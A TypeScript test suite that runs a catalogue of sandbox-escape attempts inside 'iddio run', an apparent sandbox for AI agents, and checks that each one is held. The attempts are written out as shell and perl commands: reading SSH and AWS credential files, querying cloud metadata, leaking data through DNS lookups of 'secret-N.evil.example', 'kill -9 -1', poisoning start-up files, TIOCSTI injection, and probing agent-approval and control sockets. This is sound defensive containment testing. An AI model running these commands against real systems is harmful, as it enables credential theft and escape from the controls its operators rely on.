// The red table of `iddio run`: ways out of the sandbox, each tried in a real one by an
// unprivileged user. A script prints ESCAPED when it got out, and must reach its end, so that a
// broken attempt does not count as held.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readFileSync } from "node:fs";
import { mkdir, symlink } from "node:fs/promises";
import net from "node:net";
import { join } from "node:path";
import { noSandbox, type Sandbox, startSandbox } from "../support/sandbox.ts";

const LONG_MS = 120_000;
const CANARY = "canary-secret-1f0c";

/** Says ESCAPED when the command succeeds. */
const escapes = (command: string) => `if ${command} >/dev/null 2>&1; then echo ESCAPED; fi`;
/** Says ESCAPED when the output of the command holds the canary. */
const leaks = (command: string) => `if (${command}) 2>/dev/null | grep -q ${CANARY}; then echo ESCAPED; fi`;
/** A system call by its number on x86_64 and aarch64, in perl; ESCAPED unless it fails with one of these errors. */
const call = (x64: number, arm64: number, args: string, held = "EPERM|ENOSYS") =>
  `perl -MErrno -e 'my $n = (\`uname -m\` =~ /x86_64/) ? ${x64} : ${arm64}; my $r = syscall($n, ${args}); my %e = reverse map { $_ => Errno->can($_)->() } qw(EPERM ENOSYS EAFNOSUPPORT EACCES EINVAL EFAULT); print "ESCAPED\\n" if $r >= 0 || ($e{$!+0} // "") !~ /^(?:${held})$/'`;
/** Connects a socket in perl; ESCAPED when it succeeds. */
const connects = (how: string) => `perl -MSocket -MIO::Socket -e '${how} and print "ESCAPED\\n"'`;

/** The attempts, each as a command to run in the sandbox. */
const ATTEMPTS: Readonly<Record<string, (sandbox: Sandbox, loopback: number) => string>> = {
  "direct TCP to a port that is not served": () =>
    connects('IO::Socket::INET->new(PeerAddr => "192.0.2.1", PeerPort => 22, Timeout => 3)'),
  "direct TCP to a served port ends at the bridge, not outside": () =>
    leaks(
      "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 3 perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(\"192.0.2.1:443\"); print $s <STDIN>; print <$s>'",
    ),
  "TCP to the machine's loopback": (_sandbox, port) =>
    connects(`IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, Timeout => 3)`),
  "the machine's loopback through the proxy": ({ proxyPort }, port) =>
    leaks(`curl -s -m 5 -p -x http://127.0.0.1:${proxyPort} http://127.0.0.1:${port}/`),
  "the machine's loopback by a name that means it": ({ proxyPort }, port) =>
    leaks(`curl -s -m 5 -p -x http://127.0.0.1:${proxyPort} http://localhost:${port}/`),
  "the machine's loopback by absolute form": ({ proxyPort }, port) =>
    leaks(`curl -s -m 5 -x http://127.0.0.1:${proxyPort} http://127.0.0.1:${port}/`),
  "the machine's loopback by other spellings": ({ proxyPort }, port) =>
    ["0.0.0.0", "0", "127.1", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "0x7f.1"]
      .map((host) =>
        leaks(`curl -s -m 5 -p --globoff -x http://127.0.0.1:${proxyPort} 'http://${host}:${port}/'`),
      )
      .join("\n"),
  "the cloud's metadata service": () => leaks("curl -s -m 5 http://169.254.169.254/latest/meta-data/"),
  "UDP to an address outside": () =>
    `perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "192.0.2.1", PeerPort => 443); $s->send("x"); select undef, undef, undef, 0.3; print "ESCAPED\\n" if defined $s->send("x") && $s->send("x")'`,
  "DNS to a server outside is answered by the sandbox's own resolver or not at all": () =>
    `perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "192.0.2.1", PeerPort => 53); $s->send(pack("H*", "000701000001000000000000") . "\\3foo\\3com\\0\\0\\1\\0\\1"); my $r; local $SIG{ALRM} = sub { exit }; alarm 1; $s->recv($r, 512); print "ESCAPED\\n" if length $r && $r !~ /\\xc6[\\x12\\x13]/s'`,
  "a name as a carrier of data: nothing is asked outside": () =>
    `for i in 1 2 3; do getent hosts secret-$i.evil.example | grep -qv '^198\\.1[89]\\.' && echo ESCAPED; done`,
  ICMP: () => connects("socket(my $s, PF_INET, SOCK_RAW, 1)"),
  "ICMP without raw sockets": () =>
    `perl -MSocket -e 'socket(my $s, PF_INET, SOCK_DGRAM, 1) or exit; my $to = sockaddr_in(0, inet_aton("192.0.2.1")); send($s, pack("C2 n3", 8, 0, 0xf7ff, 0, 0), 0, $to); my $r; local $SIG{ALRM} = sub { exit }; alarm 1; my $from = recv($s, $r, 512, 0); print "ESCAPED\\n" if 0'`,
  "IPv6 to an address outside": () =>
    connects(
      'socket(my $s, PF_INET6, SOCK_STREAM, 6) && connect($s, sockaddr_in6(22, inet_pton(AF_INET6, "2001:db8::1")))',
    ),
  "raw sockets": () => connects("socket(my $s, PF_INET, SOCK_RAW, 255)"),
  "packet sockets": () => connects("socket(my $s, 17, SOCK_RAW, 768)"),
  "vsock, to the hypervisor": () => connects("socket(my $s, 40, SOCK_STREAM, 0)"),
  "kernel crypto sockets": () => connects("socket(my $s, 38, SOCK_SEQPACKET, 0)"),
  bluetooth: () => connects("socket(my $s, 31, SOCK_RAW, 1)"),
  "netlink families beside routes": () =>
    [4, 9, 12, 15, 16].map((family) => connects(`socket(my $s, 16, SOCK_RAW, ${family})`)).join("\n"),
  "changing routes": () =>
    `${escapes("ip route add 10.0.0.0/8 dev lo")}\n${escapes("ip link add x type dummy")}`,
  "the docker socket": () => escapes("test -S /run/docker.sock -o -S /var/run/docker.sock"),
  "podman's and containerd's sockets": () =>
    escapes("test -e /run/podman -o -e /run/containerd -o -e $XDG_RUNTIME_DIR/podman"),
  "D-Bus": () =>
    `${escapes("test -e /run/dbus -o -e $XDG_RUNTIME_DIR/bus")}\n${escapes("busctl --user list")}`,
  "systemd-run --user": () => escapes("systemd-run --user --wait true"),
  "the display server": () =>
    `${escapes("ls /tmp/.X11-unix/X0")}\n${escapes("ls $XDG_RUNTIME_DIR/wayland-0")}`,
  "ssh-agent": ({ home }) =>
    `[ -n "$SSH_AUTH_SOCK" ] && echo ESCAPED\n${connects(`IO::Socket::UNIX->new("${home}/agent.sock")`)}`,
  "gpg-agent": ({ home }) => escapes(`ls ${home}/.gnupg/S.gpg-agent`),
  "a socket outside in the project": ({ project }) =>
    connects(`IO::Socket::UNIX->new("${project}/tool.sock")`),
  "abstract sockets outside": () =>
    connects('socket(my $s, PF_UNIX, SOCK_STREAM, 0) && connect($s, pack_sockaddr_un("\\0iddio-red-table"))'),
  "the daemon's control socket": ({ state }) => escapes(`test -e ${state}/iddio.sock`),
  "the run's own channel": ({ state }) => escapes(`ls ${state}/runs`),
  "the state directory: keys, policy, database, audit log": ({ state }) =>
    `for f in ca.key policy.yaml settings.yaml state.db audit.jsonl run-homes; do [ -e ${state}/$f ] && echo ESCAPED; done`,
  "a fake home with the real one behind it": ({ home, state }) =>
    `HOME=/tmp/fake; ${leaks(`cat ${home}/.ssh/id_ed25519 ${state}/ca.key`)}`,
  "secrets of the home directory": ({ home }) =>
    leaks(`cat ${home}/.ssh/id_ed25519 ${home}/.aws/credentials ${home}/.netrc ${home}/secret.txt`),
  "another project": ({ home }) => leaks(`cat ${home}/other/.env`),
  "/proc/<pid>/root of a process outside": () =>
    `for p in /proc/[0-9]*; do ls $p/root/ 2>/dev/null | grep -q canary-outside && echo ESCAPED; done`,
  "the environment and descriptors of processes outside": () =>
    `for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null | grep -q ${CANARY} && echo ESCAPED; ls -l $p/fd 2>/dev/null | grep -q iddio.sock && echo ESCAPED; done`,
  "seeing processes outside at all": () => `[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 12 ] && echo ESCAPED`,
  "the sandbox's own first process as a way around the filter": () =>
    `grep -q '^Seccomp:.2$' /proc/1/status || echo ESCAPED\ngrep -q '^CapEff:.0000000000000000$' /proc/1/status || echo ESCAPED`,
  "killing the bridge and everything else": () => "kill -9 -1 2>/dev/null; true",
  "signals to processes outside by number": () =>
    `for p in $(seq 300 2000); do kill -0 $p 2>/dev/null && echo ESCAPED; done`,
  io_uring: () => call(425, 425, "8, 0", "ENOSYS"),
  "clone3, whose flags no filter can read": () => call(435, 435, "0, 0", "ENOSYS"),
  "a user namespace by unshare": () => `${escapes("unshare -U true")}\n${call(272, 97, "0x10000000")}`,
  "a user namespace by clone": () => call(56, 220, "0x10000011, 0, 0, 0, 0"),
  "a mount namespace": () => call(272, 97, "0x00020000"),
  "entering another namespace": () => call(308, 268, "0, 0"),
  "nested bubblewrap": () => escapes("bwrap --unshare-user --dev-bind / / true"),
  mount: () => `${escapes("mount -t tmpfs none /mnt")}\n${call(165, 40, "0, 0, 0, 0, 0")}`,
  "umount of a mask": ({ state }) => `${escapes(`umount ${state}`)}\n${call(166, 39, "0, 0")}`,
  "the new mount calls": () =>
    [call(428, 428, "0, 0, 0"), call(430, 430, "0, 0"), call(429, 429, "0, 0, 0, 0, 0")].join("\n"),
  chroot: () => call(161, 51, "0"),
  "file handles past the mounts": () => call(304, 265, "0, 0, 0"),
  keyrings: () =>
    [call(250, 219, "0, -3, 0"), call(248, 217, "0, 0, 0, 0, 0"), call(249, 218, "0, 0, 0, 0")].join("\n"),
  bpf: () => call(321, 280, "0, 0, 0"),
  "performance events": () => call(298, 241, "0, 0, 0, 0, 0"),
  userfaultfd: () => call(323, 282, "0"),
  "typing into the terminal by TIOCSTI": () =>
    `perl -e 'for my $n (0x5412, 0x541c, 0x100005412, 0xffffffff00005412) { my $c = "x"; ioctl(STDOUT, $n, $c) and print "ESCAPED\\n"; $! == 1 or print "ESCAPED $!\\n" }'`,
  "setuid programs": () =>
    `grep -q '^NoNewPrivs:.1$' /proc/self/status || echo ESCAPED\n${escapes("sudo -n true")}\n${escapes("su -c true")}`,
  capabilities: () =>
    `grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status | grep -qv '0000000000000000$' && echo ESCAPED`,
  "writing the system": () =>
    `for d in /etc /usr /usr/bin /bin /var /opt /; do ${escapes('touch "$d/iddio-red"')}; done`,
  "kernel settings": () =>
    `${escapes("sh -c 'echo 1 > /proc/sys/kernel/yama/ptrace_scope'")}\n${escapes("sh -c 'echo x > /proc/sysrq-trigger'")}`,
  "filling the memory by /tmp": () =>
    `[ "$(df -Pk /tmp | awk 'NR == 2 { print $2 }')" -le "$(awk '/MemTotal/ { print int($2 / 2) + 1048576 }' /proc/meminfo)" ] || echo ESCAPED`,
  "control groups": () => escapes("mkdir /sys/fs/cgroup/iddio-red"),
  "devices of the machine": () =>
    `for d in /dev/sd* /dev/vd* /dev/nvme* /dev/mem /dev/kmsg /dev/kvm /dev/fuse /dev/net/tun; do [ -e "$d" ] && echo ESCAPED; done`,
  "LD_PRELOAD from outside": () =>
    `env | grep -E '^(LD_|BUN_|NODE_OPTIONS|BASH_ENV|PYTHONSTARTUP)' && echo ESCAPED`,
  "a descriptor that was open at the start": () => `[ -e /proc/self/fd/9 ] && echo ESCAPED`,
  "a bridge of its own with the daemon": ({ binary }) => escapes(`${binary} run-bridge`),
  "a second gateway": ({ binary, home }) =>
    `HOME=/tmp/h IDDIO_HOME=/tmp/h timeout 3 ${binary} gateway >/dev/null 2>&1 &\nsleep 1; ${leaks(`HTTPS_PROXY=http://127.0.0.1:9443 curl -s -m 2 https://192.0.2.1/ ${home}`)}; kill %1 2>/dev/null`,
  "approving by the command line": ({ binary, state }) =>
    [
      escapes(`IDDIO_HOME=${state} ${binary} approval list`),
      escapes(`IDDIO_HOME=${state} ${binary} run ls`),
      escapes(`IDDIO_HOME=${state} setsid ${binary} approval list`),
    ].join("\n"),
  "origin-form requests to the proxy: no control API there": ({ proxyPort }) =>
    `for path in /v1/approvals /v1/status /v1/runs /v1/settings; do ${escapes(`curl -sf -m 5 http://127.0.0.1:${proxyPort}$path`)}; done`,
};

describe.if(noSandbox() === undefined)("from inside a run", () => {
  let sandbox: Sandbox;
  let loopback: net.Server;
  let outside: ReturnType<typeof Bun.spawn>;

  beforeAll(async () => {
    sandbox = await startSandbox();
    const { home, project, write } = sandbox;
    for (const folder of [".ssh", ".aws", ".gnupg", "other"]) await mkdir(join(home, folder));
    for (const file of [".ssh/id_ed25519", ".aws/credentials", ".netrc", "secret.txt", "other/.env"])
      await write(join(home, file), CANARY);
    loopback = net.createServer((socket) => {
      socket.on("error", () => undefined);
      socket.end(`HTTP/1.0 200 OK\r\n\r\n${CANARY}\n`);
    });
    await new Promise<void>((resolve) => loopback.listen(0, "127.0.0.1", resolve));
    // Sockets outside: in the home directory, in the project, and without a path.
    const script = `$SIG{TERM} = sub { exit }; my @s; for (@ARGV) { socket(my $s, PF_UNIX, SOCK_STREAM, 0); bind($s, pack_sockaddr_un($_ =~ s/^@/\\0/r)) or die "$_: $!"; listen($s, 5); push @s, $s } print "up\\n"; $| = 1; sleep 600`;
    outside = Bun.spawn(
      [
        ...sandbox.asUser,
        "/usr/bin/perl",
        "-MSocket",
        "-e",
        `$| = 1; ${script}`,
        join(home, "agent.sock"),
        join(project, "tool.sock"),
        "@iddio-red-table",
      ],
      { env: { ...sandbox.env, SECRET: CANARY }, stdout: "pipe", stderr: "inherit", stdin: "ignore" },
    );
    await (outside.stdout as ReadableStream).getReader().read();
  }, LONG_MS);

  afterAll(async () => {
    outside.kill();
    loopback.close();
    await sandbox[Symbol.asyncDispose]();
  }, LONG_MS);

  const port = () => (loopback.address() as net.AddressInfo).port;

  for (const [name, attempt] of Object.entries(ATTEMPTS))
    test(
      `held: ${name}`,
      async () => {
        const { stdout, stderr } = await sandbox.inside(`${attempt(sandbox, port())}\necho the end`, {
          env: { LD_PRELOAD: "", NODE_OPTIONS: "--no-warnings" },
        });
        expect([name, stdout, stderr]).toEqual([
          name,
          expect.not.stringContaining("ESCAPED"),
          expect.anything(),
        ]);
        // Anyone who kills everything, kills itself.
        if (!name.startsWith("killing")) expect(`${stdout}${stderr}`).toContain("the end\n");
      },
      LONG_MS,
    );

  test(
    "held: a descriptor that the person's shell had open",
    async () => {
      const { asUser, binary, env, project, home } = sandbox;
      const child = Bun.spawn(
        [
          ...asUser,
          "/bin/bash",
          "-c",
          'exec 9< "$HOME"; exec "$0" run -- /bin/sh -c "ls -l /proc/self/fd; ls /proc/self/fd/9/ 2>&1; echo the end"',
          binary,
        ],
        { env: { ...env }, cwd: project, stdout: "pipe", stderr: "pipe", stdin: "ignore" },
      );
      const text = await new Response(child.stdout).text();
      expect(text).toContain("the end");
      expect(text).not.toContain("secret.txt");
      expect(text).not.toContain(`-> ${home}\n`);
    },
    LONG_MS,
  );

  test(
    "held: a repository whose .git leads to secrets",
    async () => {
      const { home, write, project } = sandbox;
      const trap = join(project, "trap");
      await mkdir(trap);
      await mkdir(join(project, "linked"));
      await write(join(trap, ".git"), `gitdir: ${home}/.ssh\n`);
      await symlink(join(home, ".ssh"), join(project, "linked", ".git"));
      for (const cwd of [trap, join(project, "linked")]) {
        const { stdout } = await sandbox.inside(`cat ${home}/.ssh/id_ed25519 .git/id_ed25519; echo the end`, {
          cwd,
        });
        expect(stdout).not.toContain(CANARY);
        expect(stdout).toContain("the end");
      }
    },
    LONG_MS,
  );

  test(
    "held: a control file that is a link to a secret is not shown",
    async () => {
      const { home, project } = sandbox;
      await symlink(join(home, "secret.txt"), join(project, ".envrc"));
      const { stdout } = await sandbox.inside("cat .envrc; echo the end");
      expect(stdout).toBe("the end\n");
    },
    LONG_MS,
  );

  test(
    "held: a link in a kept folder is not followed outside",
    async () => {
      const { home } = sandbox;
      await sandbox.inside(`ln -sfn ${home}/.ssh ~/.cache/npm; ln -sfn ${home}/.ssh ~/.cache/x; true`);
      const { stdout } = await sandbox.inside(
        "cat ~/.cache/npm/id_ed25519 ~/.cache/x/id_ed25519; echo the end",
      );
      expect(stdout).toBe("the end\n");
    },
    LONG_MS,
  );

  test(
    "held: start-up files written inside do not arrive outside",
    async () => {
      const { home } = sandbox;
      const files = [
        ".bashrc",
        ".profile",
        ".zshrc",
        ".config/fish/config.fish",
        ".config/autostart/x.desktop",
      ];
      const { stdout } = await sandbox.inside(
        `${files.map((file) => `mkdir -p ~/"$(dirname ${file})"; echo evil > ~/${file}`).join("\n")}\necho the end`,
      );
      expect(stdout).toContain("the end");
      for (const file of files) expect(existsSync(join(home, file))).toBe(false);
    },
    LONG_MS,
  );

  test(
    "held: the program itself cannot be replaced",
    async () => {
      const before = readFileSync(sandbox.binary).length;
      const { stdout } = await sandbox.inside(
        `echo evil > ${sandbox.binary}; mv ${sandbox.binary} /tmp/x; rm -f ${sandbox.binary}; echo the end`,
      );
      expect(stdout).toContain("the end");
      expect(readFileSync(sandbox.binary).length).toBe(before);
    },
    LONG_MS,
  );

  test(
    "held: a bridge is only the process that registered",
    async () => {
      const running = sandbox.start(["run", "--name", "other", "--", "/bin/sleep", "30"]);
      await using _ = running;
      for (let tries = 0; tries < 100; tries += 1) {
        const { runs } = await sandbox.control.call("runs_list", {});
        if (runs.some(({ name, pid }) => name === "other" && pid !== undefined)) break;
        await Bun.sleep(50);
      }
      const { runs } = await sandbox.control.call("runs_list", {});
      const run = runs.find(({ name }) => name === "other");
      expect(run?.pid).toBeNumber();
      // A process of the same user outside knows the path; the daemon closes the connection without a word.
      const { stdout } = await sandbox.outside([
        "/usr/bin/perl",
        "-MIO::Socket",
        "-e",
        `$SIG{PIPE} = "IGNORE"; my $s = IO::Socket::UNIX->new("${sandbox.state}/runs/${run?.id}.sock") or exit; print $s "CONNECT a.seen.example:443 HTTP/1.1\\r\\n\\r\\n"; print "[", <$s>, "]"`,
      ]);
      expect(stdout).toBe("[]");
      const { code } = await sandbox.iddio(["run", "stop", "other"]);
      expect(code).toBe(0);
      await running.finished;
    },
    LONG_MS,
  );

  const refused: Readonly<Record<string, readonly string[]>> = {
    "the home directory as project": ["home"],
    "the root directory as project": ["root"],
    "the state directory as project": ["state"],
  };
  for (const [name, [where]] of Object.entries(refused))
    test(
      `refused: ${name}`,
      async () => {
        const cwd = where === "home" ? sandbox.home : where === "root" ? "/" : sandbox.state;
        const { code, stderr } = await sandbox.inside("true", { cwd });
        expect(code).toBe(1);
        expect(stderr).toContain("an agent cannot be given");
      },
      LONG_MS,
    );

  for (const flag of ["--rw", "--ro"])
    test(
      `refused: the state directory by ${flag}`,
      async () => {
        const { code, stderr } = await sandbox.inside("true", { flags: [flag, sandbox.state] });
        expect(code).toBe(1);
        expect(stderr).toContain("it holds the state of iddio");
      },
      LONG_MS,
    );

  for (const name of [
    "LD_PRELOAD",
    "SSH_AUTH_SOCK",
    "NODE_OPTIONS",
    "GIT_DIR",
    "DOCKER_HOST",
    "DBUS_SESSION_BUS_ADDRESS",
  ])
    test(
      `refused: ${name} by --env`,
      async () => {
        const { code, stderr } = await sandbox.inside("true", { flags: ["--env", name] });
        expect(code).toBe(2);
        expect(stderr).toContain(`'${name}' cannot be given to an agent`);
      },
      LONG_MS,
    );
});
